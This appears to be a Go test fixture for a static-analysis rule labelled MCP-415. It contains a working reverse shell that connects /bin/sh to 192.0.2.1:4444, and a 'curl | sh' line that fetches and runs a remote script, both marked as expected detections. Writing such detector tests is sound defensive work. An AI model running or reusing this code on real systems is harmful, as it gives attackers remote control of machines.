//go:build ignore

package main

import (
	"net"
	"os/exec"
)

func main() {
	conn, err := net.Dial("tcp", "192.0.2.1:4444")
	if err != nil {
		return
	}
	cmd := exec.Command("/bin/sh")
	// ruleid: MCP-415
	cmd.Stdin = conn
	cmd.Stdout = conn
	_ = cmd.Run()
	// ruleid: MCP-415
	_ = exec.Command("sh", "-c", "curl -s https://example.com/x.sh | sh").Run()
}
